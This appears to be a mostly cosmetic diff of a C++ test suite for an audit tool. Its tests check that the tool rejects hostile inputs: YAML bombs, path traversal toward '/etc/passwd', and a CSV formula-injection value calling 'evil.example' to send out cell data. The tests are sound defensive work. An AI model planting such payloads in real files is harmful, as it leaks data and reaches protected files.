@@ -7,7 +7,9 @@
 // The binary runs in a forked child so that a test can drop root's privileges (as uid/gid 65534),
 // set a file-size limit, and kill it after a deadline: nothing here may hang.
 #include <fcntl.h>
+#include <fmt/format.h>
 #include <grp.h>
+#include <gtest/gtest.h>
 #include <signal.h>
 #include <sys/resource.h>
 #include <sys/stat.h>
@@ -22,14 +24,11 @@
 #include <filesystem>
 #include <fstream>
 #include <map>
+#include <nlohmann/json.hpp>
 #include <set>
 #include <string>
 #include <thread>
 #include <vector>
-
-#include <fmt/format.h>
-#include <gtest/gtest.h>
-#include <nlohmann/json.hpp>
 
 #include "tests/test_util.h"
 
@@ -47,10 +46,10 @@ const char kEarlier[] = "earlier report, kept byte for byte";
 // ---- running the binary ------------------------------------------------------------------------
 
 struct RunOptions {
-  bool unprivileged = false;      // as uid and gid 65534 with no groups, when run by root
+  bool unprivileged = false;       // as uid and gid 65534 with no groups, when run by root
   long long file_size_limit = -1;  // RLIMIT_FSIZE in bytes; -1: none
-  bool ignore_sigxfsz = false;     // past the limit, write() fails (EFBIG) instead of a SIGXFSZ kill
-  int timeout_seconds = 20;        // then SIGKILL: a hang is a failure, never a stuck test run
+  bool ignore_sigxfsz = false;  // past the limit, write() fails (EFBIG) instead of a SIGXFSZ kill
+  int timeout_seconds = 20;     // then SIGKILL: a hang is a failure, never a stuck test run
 };
 
 struct Ran {
@@ -241,7 +240,7 @@ void ExpectAuditWritesNothing(const std::string& dossier, const std::string& ste
   OutFolder out(stem);
   if (options.unprivileged) out.OpenToAll();
   Ran r = Exec({"audit", dossier, "--referentials", "tests/data/referentials", "--out", out.path()},
-              options);
+               options);
   EXPECT_EQ(r.exit_code, 1) << r.err.substr(0, 2000);
   EXPECT_EQ(r.out, "");
   EXPECT_NE(r.err.find(dossier + ": 1 error(s), 0 warning(s): no report written\n"),
@@ -284,9 +283,10 @@ TEST(Hostile, InvalidUtf8IsRefusedWithItsByteOffset) {
   std::string d_path = dir.Write("d.yaml", with_ff);
   r = Check(d_path);
   EXPECT_EQ(r.exit_code, 1);
-  EXPECT_TRUE(Contains(r.err, fmt::format("{}:{}: error: invalid UTF-8 byte 0xFF at byte offset {}: "
-                                          "the file must be UTF-8 text [invalid-utf8]\n",
-                                          d_path, Position(with_ff, ff), ff)))
+  EXPECT_TRUE(
+      Contains(r.err, fmt::format("{}:{}: error: invalid UTF-8 byte 0xFF at byte offset {}: "
+                                  "the file must be UTF-8 text [invalid-utf8]\n",
+                                  d_path, Position(with_ff, ff), ff)))
       << r.err;
   ExpectAuditWritesNothing(d_path, "d");
 
@@ -311,7 +311,8 @@ TEST(Hostile, AByteOrderMarkIsAcceptedAndPositionsStayRight) {
   Ran plain = Exec({"validate", plain_path});
   Ran with_bom = Exec({"validate", bom_path});
   EXPECT_EQ(with_bom.exit_code, 1);
-  EXPECT_TRUE(Contains(with_bom.err, bom_path + ":1:1: error: unknown key 'wieght'")) << with_bom.err;
+  EXPECT_TRUE(Contains(with_bom.err, bom_path + ":1:1: error: unknown key 'wieght'"))
+      << with_bom.err;
   EXPECT_TRUE(Contains(with_bom.err, bom_path + ":20:5: error: unknown key 'wieght' in criterion"))
       << with_bom.err;
   // Exactly what the same file without the BOM gives: positions, quoted lines and carets.
@@ -321,7 +322,8 @@ TEST(Hostile, AByteOrderMarkIsAcceptedAndPositionsStayRight) {
   }
   EXPECT_EQ(with_bom.err, expected);
 
-  std::string ok_path = dir.Write("ok-bom.yaml", bom + Source("tests/data/referentials/minimal.yaml"));
+  std::string ok_path =
+      dir.Write("ok-bom.yaml", bom + Source("tests/data/referentials/minimal.yaml"));
   Ran ok = Exec({"validate", ok_path});
   EXPECT_EQ(ok.exit_code, 0) << ok.err;
   EXPECT_TRUE(Contains(ok.out, ok_path + ": ok: exemple-minimal 2026.1")) << ok.out;
@@ -330,7 +332,8 @@ TEST(Hostile, AByteOrderMarkIsAcceptedAndPositionsStayRight) {
   std::string d_path = dir.Write("d.yaml", bom + Source("tests/data/dossiers/ok.yaml"));
   EXPECT_EQ(Check(d_path).exit_code, 0);
   TempDir out;
-  Ran audit = Exec({"audit", d_path, "--referentials", "tests/data/referentials", "--out", out.path()});
+  Ran audit =
+      Exec({"audit", d_path, "--referentials", "tests/data/referentials", "--out", out.path()});
   EXPECT_EQ(audit.exit_code, 0) << audit.err;
   EXPECT_EQ(Names(out.path()), (std::vector<std::string>{"d.csv", "d.json", "d.pdf"}));
 }
@@ -339,7 +342,8 @@ TEST(Hostile, InvalidUtf8AfterAByteOrderMarkGivesTheFileByteOffset) {
   // BUG: the loaders strip the BOM before checking UTF-8 (engine/referential_loader.cc and
   // engine/dossier_loader.cc, `text.erase(0, 3)`), so the "byte offset" in the message counts from
   // after the BOM: 3 less than the offset in the file, where `xxd`/`cmp` will look.
-  // Repro: printf '\xEF\xBB\xBFid: x\nversion: "1"\ntitle: caf\xe9\n' > b.yaml; sceau validate b.yaml
+  // Repro: printf '\xEF\xBB\xBFid: x\nversion: "1"\ntitle: caf\xe9\n' > b.yaml; sceau validate
+  // b.yaml
   //   -> "b.yaml:3:11: error: invalid UTF-8 byte 0xE9 at byte offset 29" (the byte is at 32).
   TempDir dir;
   std::string text = "\xEF\xBB\xBFid: x\nversion: \"1\"\ntitle: caf\xE9\n";
@@ -354,7 +358,8 @@ TEST(Hostile, InvalidUtf8AfterAByteOrderMarkGivesTheFileByteOffset) {
 TEST(Hostile, CrlfLineEndsAreAccepted) {
   TempDir dir;
   auto crlf = [](std::string text) {
-    for (size_t at = 0; (at = text.find('\n', at)) != std::string::npos; at += 2) text.insert(at, "\r");
+    for (size_t at = 0; (at = text.find('\n', at)) != std::string::npos; at += 2)
+      text.insert(at, "\r");
     return text;
   };
   std::string ok_path = dir.Write("ok.yaml", crlf(Source("tests/data/referentials/minimal.yaml")));
@@ -377,12 +382,14 @@ TEST(Hostile, CrlfLineEndsAreAccepted) {
   EXPECT_EQ(r.err.find('\r'), std::string::npos);
 
   // A dossier with CRLF and a multi-line finding: the finding's lines end in \n alone.
-  std::string dossier = Replace(Source("tests/data/dossiers/ok.yaml"),
-                                "C-1.2: {grade: PS, finding: \"=Livret à mettre à jour (version 2023).\"}",
-                                "C-1.2:\n    grade: PS\n    finding: |\n      Ligne un\n      Ligne deux\n");
+  std::string dossier =
+      Replace(Source("tests/data/dossiers/ok.yaml"),
+              "C-1.2: {grade: PS, finding: \"=Livret à mettre à jour (version 2023).\"}",
+              "C-1.2:\n    grade: PS\n    finding: |\n      Ligne un\n      Ligne deux\n");
   std::string d_path = dir.Write("d.yaml", crlf(dossier));
   TempDir out;
-  Ran audit = Exec({"audit", d_path, "--referentials", "tests/data/referentials", "--out", out.path()});
+  Ran audit =
+      Exec({"audit", d_path, "--referentials", "tests/data/referentials", "--out", out.path()});
   EXPECT_EQ(audit.exit_code, 0) << audit.err;
   nlohmann::json result = nlohmann::json::parse(ReadFile(out.path() + "/d.json"));
   bool found = false;
@@ -418,7 +425,8 @@ TEST(Hostile, TabsInIndentationAreRefusedWithTheirPosition) {
   r = Check(d_path);
   EXPECT_EQ(r.exit_code, 1);
   EXPECT_TRUE(Contains(r.err, d_path + ":" + line + ":")) << r.err;
-  EXPECT_TRUE(Contains(r.err, "error: YAML syntax error: illegal map value [yaml-syntax]\n")) << r.err;
+  EXPECT_TRUE(Contains(r.err, "error: YAML syntax error: illegal map value [yaml-syntax]\n"))
+      << r.err;
   ExpectAuditWritesNothing(d_path, "d");
   // A tab that is not indentation (before a comment, after a colon) is fine.
   std::string fine = Replace(Source("tests/data/dossiers/ok.yaml"), "  name: Atelier Essai",
@@ -440,15 +448,16 @@ TEST(Hostile, AMegabyteLineIsHandledAndQuotedAsAWindow) {
   EXPECT_EQ(r.exit_code, 1);
   EXPECT_TRUE(Contains(r.err, fmt::format("{}:{}: error: 'EN' in ", path, Position(ref, key))))
       << r.err.substr(0, 2000);
-  EXPECT_TRUE(Contains(r.err, "is not a language code: use two lowercase letters such as 'fr' or "
-                              "'en' [bad-language]\n"))
+  EXPECT_TRUE(Contains(r.err,
+                       "is not a language code: use two lowercase letters such as 'fr' or "
+                       "'en' [bad-language]\n"))
       << r.err.substr(0, 2000);
   EXPECT_LT(r.err.size(), 2000u);  // the line is quoted as a window around the column
   EXPECT_TRUE(Contains(r.err, "...")) << r.err;
 
   // A dossier with a finding of 1 MiB on one line is fine.
-  std::string dossier = Replace(Source("tests/data/dossiers/ok.yaml"),
-                                "=Livret à mettre à jour (version 2023).", y);
+  std::string dossier =
+      Replace(Source("tests/data/dossiers/ok.yaml"), "=Livret à mettre à jour (version 2023).", y);
   Ran c = Check(dir.Write("d.yaml", dossier), o);
   EXPECT_EQ(c.exit_code, 0) << c.err.substr(0, 2000);
 }
@@ -510,7 +519,7 @@ TEST(Hostile, AFileGivenAsTheOutputFolderIsReported) {
   TempDir dir;
   std::string not_a_folder = dir.Write("out", kEarlier);
   Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
-               "--out", not_a_folder});
+                "--out", not_a_folder});
   EXPECT_EQ(r.exit_code, 1);
   EXPECT_EQ(r.out, "");
   EXPECT_EQ(r.err, "sceau audit: cannot create the folder " + not_a_folder + ": Not a directory\n");
@@ -530,8 +539,9 @@ TEST(Hostile, AnUnreadableFileIsRefused) {
   o.unprivileged = true;
   Ran r = Exec({"validate", ref}, o);
   EXPECT_EQ(r.exit_code, 1);
-  EXPECT_EQ(r.err, ref + ": error: cannot open file: Permission denied [io-error]\n"
-                         "1 error and 0 warnings in 1 invalid file of 1 file\n");
+  EXPECT_EQ(r.err, ref +
+                       ": error: cannot open file: Permission denied [io-error]\n"
+                       "1 error and 0 warnings in 1 invalid file of 1 file\n");
   r = Check(d, o);
   EXPECT_EQ(r.exit_code, 1);
   EXPECT_EQ(r.err, d + ": error: cannot open file: Permission denied [io-error]\n" + d +
@@ -550,7 +560,8 @@ TEST(Hostile, AnUnreadableReferentialInTheFolderIsReported) {
   o.unprivileged = true;
   Ran r = Exec({"check", "tests/data/dossiers/ok.yaml", "--referentials", dir.path()}, o);
   EXPECT_EQ(r.exit_code, 1);
-  EXPECT_TRUE(Contains(r.err, "files that could not be read: " + ref + ": cannot open file: Permission denied"))
+  EXPECT_TRUE(Contains(
+      r.err, "files that could not be read: " + ref + ": cannot open file: Permission denied"))
       << r.err;
 }
 
@@ -561,8 +572,9 @@ TEST(Hostile, AFileOverTheSizeLimitIsRefused) {
   fs::resize_file(path, 65u << 20);
   Ran r = Exec({"validate", path});
   EXPECT_EQ(r.exit_code, 1);
-  EXPECT_EQ(r.err, path + ": error: file is 68157440 bytes, over the limit of 67108864 bytes "
-                          "[file-too-large]\n1 error and 0 warnings in 1 invalid file of 1 file\n");
+  EXPECT_EQ(r.err, path +
+                       ": error: file is 68157440 bytes, over the limit of 67108864 bytes "
+                       "[file-too-large]\n1 error and 0 warnings in 1 invalid file of 1 file\n");
   r = Check(path);
   EXPECT_EQ(r.exit_code, 1);
   EXPECT_TRUE(Contains(r.err, path + ": error: file is 68157440 bytes, over the limit of 67108864 "
@@ -598,8 +610,9 @@ TEST(Hostile, NestingBombsAreRefused) {
   std::string d = dir.Write("d.yaml", dossier);
   r = Check(d);
   EXPECT_EQ(r.exit_code, 1);
-  EXPECT_TRUE(Contains(r.err, fmt::format("{}:{}: error: nesting deeper than 64 levels [too-deep]\n",
-                                          d, Position(dossier, Offset(dossier, "[[[") + 61))))
+  EXPECT_TRUE(
+      Contains(r.err, fmt::format("{}:{}: error: nesting deeper than 64 levels [too-deep]\n", d,
+                                  Position(dossier, Offset(dossier, "[[[") + 61))))
       << r.err;
   ExpectAuditWritesNothing(d, "d");
 }
@@ -611,7 +624,8 @@ TEST(Hostile, AliasBombsAreRefused) {
   std::string bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n";
   for (char c = 'b'; c <= 'l'; ++c) {
     bomb += fmt::format("{}: &{} [", c, c);
-    for (int i = 0; i < 10; ++i) bomb += fmt::format("{}*{}", i ? ", " : "", static_cast<char>(c - 1));
+    for (int i = 0; i < 10; ++i)
+      bomb += fmt::format("{}*{}", i ? ", " : "", static_cast<char>(c - 1));
     bomb += "]\n";
   }
   std::string path = dir.Write("bomb.yaml", bomb);
@@ -645,11 +659,10 @@ TEST(Hostile, NumbersOutOfRangeAreRefused) {
   std::string ref = Source("tests/data/referentials/minimal.yaml");
   std::vector<std::string> paths;
   std::vector<std::string> expected;
-  const std::map<std::string, std::string> kWhy = {
-      {".nan", "must be a finite number, not .nan"},
-      {".inf", "must be a finite number, not .inf"},
-      {"-.inf", "must be a finite number, not -.inf"},
-      {"1e400", "is out of range: 1e400"}};
+  const std::map<std::string, std::string> kWhy = {{".nan", "must be a finite number, not .nan"},
+                                                   {".inf", "must be a finite number, not .inf"},
+                                                   {"-.inf", "must be a finite number, not -.inf"},
+                                                   {"1e400", "is out of range: 1e400"}};
   for (const auto& [value, why] : kWhy) {
     std::string text = Replace(ref, "    weight: 2\n", "    weight: " + value + "\n");
     std::string path = dir.Write("w" + std::to_string(paths.size()) + ".yaml", text);
@@ -667,13 +680,15 @@ TEST(Hostile, NumbersOutOfRangeAreRefused) {
   // As an indicator value in a dossier.
   std::string dossier = Source("tests/data/dossiers/ok.yaml");
   for (const auto& [value, why] : kWhy) {
-    std::string text = Replace(dossier, "taux-sorties-dynamiques: 55", "taux-sorties-dynamiques: " + value);
+    std::string text =
+        Replace(dossier, "taux-sorties-dynamiques: 55", "taux-sorties-dynamiques: " + value);
     std::string d = dir.Write("d.yaml", text);
     r = Check(d);
     EXPECT_EQ(r.exit_code, 1);
-    EXPECT_TRUE(Contains(r.err, fmt::format("{}:{}: error: indicator 'taux-sorties-dynamiques' of the "
-                                            "assessment of 'C-2.2' {} [bad-number]\n",
-                                            d, Position(text, Offset(text, value + "}")), why)))
+    EXPECT_TRUE(
+        Contains(r.err, fmt::format("{}:{}: error: indicator 'taux-sorties-dynamiques' of the "
+                                    "assessment of 'C-2.2' {} [bad-number]\n",
+                                    d, Position(text, Offset(text, value + "}")), why)))
         << r.err;
     ExpectAuditWritesNothing(d, "d");
   }
@@ -688,12 +703,13 @@ TEST(Hostile, EveryYamlSpellingOfNanAndInfinityIsABadNumber) {
   TempDir dir;
   std::string ref = Source("tests/data/referentials/minimal.yaml");
   for (const char* value : {".NAN", ".INF", "+.inf", "+.Inf", "-.Inf", "-.INF"}) {
-    std::string path = dir.Write("w.yaml", Replace(ref, "    weight: 2\n",
-                                                   std::string("    weight: ") + value + "\n"));
+    std::string path = dir.Write(
+        "w.yaml", Replace(ref, "    weight: 2\n", std::string("    weight: ") + value + "\n"));
     Ran r = Exec({"validate", path});
     EXPECT_EQ(r.exit_code, 1);
-    EXPECT_TRUE(Contains(r.err, std::string("'weight' of chapter '2' must be a finite number, not ") +
-                                    value + " [bad-number]"))
+    EXPECT_TRUE(
+        Contains(r.err, std::string("'weight' of chapter '2' must be a finite number, not ") +
+                            value + " [bad-number]"))
         << r.err;
   }
 }
@@ -732,8 +748,8 @@ TEST(Hostile, DatesThatDoNotExistAreRefused) {
                 .exit_code,
             0);
 
-  std::string text = Replace(Source("tests/data/dossiers/ok.yaml"), "start: 2026-10-12",
-                             "start: 2025-02-30");
+  std::string text =
+      Replace(Source("tests/data/dossiers/ok.yaml"), "start: 2026-10-12", "start: 2025-02-30");
   std::string d = dir.Write("d.yaml", text);
   Ran r = Check(d);
   EXPECT_EQ(r.exit_code, 1);
@@ -756,8 +772,10 @@ TEST(Hostile, EvidencePathsLeavingTheDossierAreRefused) {
     std::string why;
   };
   const std::vector<Case> cases = {
-      {"../outside/secret.pdf", "leaves the dossier's folder ('..'): evidence files live in or below it"},
-      {"'sub/../../outside/secret.pdf'", "leaves the dossier's folder ('..'): evidence files live in or below it"},
+      {"../outside/secret.pdf",
+       "leaves the dossier's folder ('..'): evidence files live in or below it"},
+      {"'sub/../../outside/secret.pdf'",
+       "leaves the dossier's folder ('..'): evidence files live in or below it"},
       {"/etc/passwd", "must be relative to the dossier's folder, not an absolute path"},
       {"'C:\\\\secret.pdf'", "must be relative to the dossier's folder, not an absolute path"},
       {"link.pdf", "resolves outside the dossier's folder"},
@@ -768,23 +786,25 @@ TEST(Hostile, EvidencePathsLeavingTheDossierAreRefused) {
     register_ += fmt::format("  - {{id: X{}, kind: record, title: Pièce {}, file: {}}}\n", i, i,
                              cases[i].file);
   }
-  std::string anchor = "  - {id: E2, kind: sample, title: Dossiers de salariés, date: 2026-10-12}\n";
+  std::string anchor =
+      "  - {id: E2, kind: sample, title: Dossiers de salariés, date: 2026-10-12}\n";
   std::string text = Replace(Source("tests/data/dossiers/ok.yaml"), anchor, anchor + register_);
   std::string d = dir.Write("dossier/d.yaml", text);
   Ran r = Check(d);
   EXPECT_EQ(r.exit_code, 1);
   for (size_t i = 0; i < cases.size(); ++i) {
-    std::string head = fmt::format("{}:{}: error: the file of evidence 'X{}' {} [bad-path]\n", d,
-                                   Position(text, Offset(text, "file: " + cases[i].file) + 6), i,
-                                   cases[i].why);
+    std::string head =
+        fmt::format("{}:{}: error: the file of evidence 'X{}' {} [bad-path]\n", d,
+                    Position(text, Offset(text, "file: " + cases[i].file) + 6), i, cases[i].why);
     EXPECT_TRUE(Contains(r.err, head)) << head << "\n" << r.err;
   }
   EXPECT_TRUE(Contains(r.err, d + ": 6 error(s) and 0 warning(s)\n")) << r.err;
   // Each case alone stops the audit.
   for (size_t i = 0; i < cases.size(); ++i) {
-    std::string one = Replace(Source("tests/data/dossiers/ok.yaml"), anchor,
-                              anchor + fmt::format("  - {{id: X, kind: record, title: Pièce, file: {}}}\n",
-                                                   cases[i].file));
+    std::string one =
+        Replace(Source("tests/data/dossiers/ok.yaml"), anchor,
+                anchor + fmt::format("  - {{id: X, kind: record, title: Pièce, file: {}}}\n",
+                                     cases[i].file));
     ExpectAuditWritesNothing(dir.Write("dossier/one.yaml", one), "one");
   }
 }
@@ -799,12 +819,14 @@ TEST(Hostile, AnEvidenceSymlinkLoopIsReported) {
   TempDir dir;
   fs::create_directory(dir.path() + "/dossier");
   fs::create_symlink("loop", dir.path() + "/dossier/loop");
-  std::string anchor = "  - {id: E2, kind: sample, title: Dossiers de salariés, date: 2026-10-12}\n";
+  std::string anchor =
+      "  - {id: E2, kind: sample, title: Dossiers de salariés, date: 2026-10-12}\n";
   std::string text = Replace(Source("tests/data/dossiers/ok.yaml"), anchor,
                              anchor + "  - {id: E3, kind: record, title: Boucle, file: loop}\n");
   std::string d = dir.Write("dossier/d.yaml", text);
   Ran r = Check(d);
-  EXPECT_TRUE(Contains(r.err, fmt::format("{}:{}: ", d, Position(text, Offset(text, "file: loop") + 6))))
+  EXPECT_TRUE(
+      Contains(r.err, fmt::format("{}:{}: ", d, Position(text, Offset(text, "file: loop") + 6))))
       << r.err;
   EXPECT_TRUE(Contains(r.err, "the file of evidence 'E3'")) << r.err;
 }
@@ -820,12 +842,13 @@ TEST(Hostile, AnOutputFolderThatIsNotWritableIsReported) {
   RunOptions o;
   o.unprivileged = true;
   Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
-               "--out", out.path()},
-              o);
+                "--out", out.path()},
+               o);
   EXPECT_EQ(r.exit_code, 1);
   EXPECT_EQ(r.out, "");
-  EXPECT_EQ(r.err, "sceau audit: " + out.path() + "/ok.json: cannot create a file there: "
-                   "Permission denied\n");
+  EXPECT_EQ(r.err, "sceau audit: " + out.path() +
+                       "/ok.json: cannot create a file there: "
+                       "Permission denied\n");
   fs::permissions(out.path(), fs::perms(0755));
   EXPECT_TRUE(out.Untouched());
 }
@@ -836,7 +859,8 @@ TEST(Hostile, AnOutputFolderThatCannotBeCreatedIsNamed) {
   // reason: "sceau audit: OUT/sub/ok.json: cannot create a file there: No such file or directory"
   // instead of naming the folder and "Permission denied". (`sceau report` does the same.)
   // Repro (as root): mkdir /tmp/ro && setpriv --reuid=65534 --regid=65534 --clear-groups
-  //   build/sceau audit tests/data/dossiers/ok.yaml --referentials tests/data/referentials --out /tmp/ro/sub
+  //   build/sceau audit tests/data/dossiers/ok.yaml --referentials tests/data/referentials --out
+  //   /tmp/ro/sub
   if (!CanRunUnprivileged()) GTEST_SKIP() << "cannot run sceau as uid 65534 here";
   TempDir dir;
   fs::permissions(dir.path(), fs::perms(::geteuid() == 0 ? 0755 : 0555));
@@ -844,8 +868,8 @@ TEST(Hostile, AnOutputFolderThatCannotBeCreatedIsNamed) {
   RunOptions o;
   o.unprivileged = true;
   Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
-               "--out", sub},
-              o);
+                "--out", sub},
+               o);
   EXPECT_EQ(r.exit_code, 1);
   EXPECT_TRUE(Contains(r.err, sub)) << r.err;
   EXPECT_TRUE(Contains(r.err, "Permission denied")) << r.err;
@@ -892,8 +916,8 @@ TEST(Hostile, AFullDiskFailsTheAuditCleanly) {
   o.file_size_limit = LimitBetween(ref);
   o.ignore_sigxfsz = true;
   Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
-               "--out", out},
-              o);
+                "--out", out},
+               o);
   EXPECT_EQ(r.exit_code, 1);
   EXPECT_EQ(r.out, "");
   EXPECT_EQ(r.err, "sceau audit: " + out + "/ok.pdf: write failed: File too large\n");
@@ -910,12 +934,13 @@ TEST(Hostile, AFullDiskFailsTheAuditCleanly) {
   std::string out2 = EarlierSet(dir2);
   o.file_size_limit = 2048;
   r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
-           "--out", out2, "--format", "pdf"},
-          o);
+            "--out", out2, "--format", "pdf"},
+           o);
   EXPECT_EQ(r.exit_code, 1);
   EXPECT_EQ(r.err, "sceau audit: " + out2 + "/ok.pdf: write failed: File too large\n");
   EXPECT_EQ(Names(out2), (std::vector<std::string>{"ok.csv", "ok.json", "ok.pdf"}));
-  for (const char* name : {"ok.json", "ok.csv", "ok.pdf"}) EXPECT_EQ(ReadFile(out2 + "/" + name), kEarlier);
+  for (const char* name : {"ok.json", "ok.csv", "ok.pdf"})
+    EXPECT_EQ(ReadFile(out2 + "/" + name), kEarlier);
 }
 
 TEST(Hostile, AFileSizeLimitLeavesEveryEarlierReportWhole) {
@@ -927,13 +952,14 @@ TEST(Hostile, AFileSizeLimitLeavesEveryEarlierReportWhole) {
   RunOptions o;
   o.file_size_limit = LimitBetween(ref);
   Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
-               "--out", out},
-              o);
+                "--out", out},
+               o);
   EXPECT_EQ(r.signal, 0);
   EXPECT_EQ(r.exit_code, 1) << r.err;
   EXPECT_TRUE(Contains(r.err, "write failed: File too large")) << r.err;
   EXPECT_EQ(Names(out), (std::vector<std::string>{"ok.csv", "ok.json", "ok.pdf"}));
-  for (const char* name : {"ok.json", "ok.csv", "ok.pdf"}) EXPECT_EQ(ReadFile(out + "/" + name), kEarlier) << name;
+  for (const char* name : {"ok.json", "ok.csv", "ok.pdf"})
+    EXPECT_EQ(ReadFile(out + "/" + name), kEarlier) << name;
 }
 
 TEST(Hostile, AFileSizeLimitIsAnErrorNotAKill) {
@@ -948,8 +974,8 @@ TEST(Hostile, AFileSizeLimitIsAnErrorNotAKill) {
   RunOptions o;
   o.file_size_limit = 2048;
   Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
-               "--out", out, "--format", "pdf"},
-              o);
+                "--out", out, "--format", "pdf"},
+               o);
   EXPECT_EQ(r.signal, 0);
   EXPECT_EQ(r.exit_code, 1);
   EXPECT_EQ(r.err, "sceau audit: " + out + "/ok.pdf: write failed: File too large\n");
@@ -969,8 +995,8 @@ TEST(Hostile, AFailedAuditKeepsTheEarlierSetOfReportsWhole) {
   o.file_size_limit = LimitBetween(ref);
   o.ignore_sigxfsz = true;
   Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
-               "--out", out},
-              o);
+                "--out", out},
+               o);
   EXPECT_EQ(r.exit_code, 1);
   for (const char* name : {"ok.json", "ok.csv", "ok.pdf"}) {
     EXPECT_TRUE(ReadFile(out + "/" + name) == kEarlier) << name << " was replaced";
@@ -983,7 +1009,8 @@ TEST(Hostile, CsvCellsThatLookLikeFormulasAreNeutralised) {
   dossier = dossier.substr(0, Offset(dossier, "assessments:")) +
             "assessments:\n"
             "  C-1.1: {grade: NCm, finding: \"+33 6 12 34 56 78\", evidence: [E1]}\n"
-            "  C-1.2: {grade: PS, finding: \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1, \\\"clic\\\")\"}\n"
+            "  C-1.2: {grade: PS, finding: \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1, "
+            "\\\"clic\\\")\"}\n"
             "  C-2.1:\n"
             "    grade: NCm\n"
             "    finding: \"@SUM(A1:A9)\"\n"
@@ -999,7 +1026,7 @@ TEST(Hostile, CsvCellsThatLookLikeFormulasAreNeutralised) {
   for (const char* sep : {",", ";"}) {
     TempDir out;
     Ran r = Exec({"audit", d, "--referentials", "tests/data/referentials", "--out", out.path(),
-                 "--csv-separator", sep});
+                  "--csv-separator", sep});
     ASSERT_EQ(r.exit_code, 0) << r.err;
     std::string csv = ReadFile(out.path() + "/f.csv");
     auto cell = [&](const std::string& text) { return sep + text + sep; };
@@ -1007,7 +1034,8 @@ TEST(Hostile, CsvCellsThatLookLikeFormulasAreNeutralised) {
     EXPECT_TRUE(Contains(csv, cell("'@SUM(A1:A9)"))) << csv;
     EXPECT_TRUE(Contains(csv, cell("'-1"))) << csv;
     // Quoted (it holds double quotes, and a comma), the prefix inside the quotes.
-    EXPECT_TRUE(Contains(csv, cell("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1, \"\"clic\"\")\"")))
+    EXPECT_TRUE(
+        Contains(csv, cell("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1, \"\"clic\"\")\"")))
         << csv;
     // No cell starts with a formula character.
     for (const char* bad : {"=", "+", "-", "@"}) {
@@ -1018,9 +1046,10 @@ TEST(Hostile, CsvCellsThatLookLikeFormulasAreNeutralised) {
     nlohmann::json result = nlohmann::json::parse(ReadFile(out.path() + "/f.json"));
     std::set<std::string> findings;
     for (const auto& a : result["actions"]) findings.insert(a["finding"].get<std::string>());
-    EXPECT_EQ(findings, (std::set<std::string>{"+33 6 12 34 56 78",
-                                               "=HYPERLINK(\"http://evil.example/?x=\"&A1, \"clic\")",
-                                               "@SUM(A1:A9)", "-1"}));
+    EXPECT_EQ(findings,
+              (std::set<std::string>{"+33 6 12 34 56 78",
+                                     "=HYPERLINK(\"http://evil.example/?x=\"&A1, \"clic\")",
+                                     "@SUM(A1:A9)", "-1"}));
   }
 }
 
@@ -1047,7 +1076,8 @@ TEST(Hostile, KillingTheAuditMidWriteLeavesOnlyWholeReports) {
   fs::create_directory(refs);
   std::string dossier = data.path() + "/big.yaml";
   std::string gen = fmt::format(
-      "python3 '{0}/bench/gen_referential.py' --criteria 10000 --deps 20000 --seed 1 > '{1}/ref.yaml' "
+      "python3 '{0}/bench/gen_referential.py' --criteria 10000 --deps 20000 --seed 1 > "
+      "'{1}/ref.yaml' "
       "&& python3 '{0}/bench/gen_dossier.py' '{1}/ref.yaml' --seed 1 > '{2}' 2>/dev/null",
       SCEAU_SOURCE_DIR, refs, dossier);
   ASSERT_EQ(std::system(gen.c_str()), 0) << gen;
@@ -1097,7 +1127,8 @@ TEST(Hostile, KillingTheAuditMidWriteLeavesOnlyWholeReports) {
         break;
       }
       siginfo_t info = {};
-      if (::waitid(P_PID, static_cast<id_t>(sceau.pid()), &info, WEXITED | WNOHANG | WNOWAIT) == 0 &&
+      if (::waitid(P_PID, static_cast<id_t>(sceau.pid()), &info, WEXITED | WNOHANG | WNOWAIT) ==
+              0 &&
           info.si_pid != 0) {
         break;  // finished first
       }
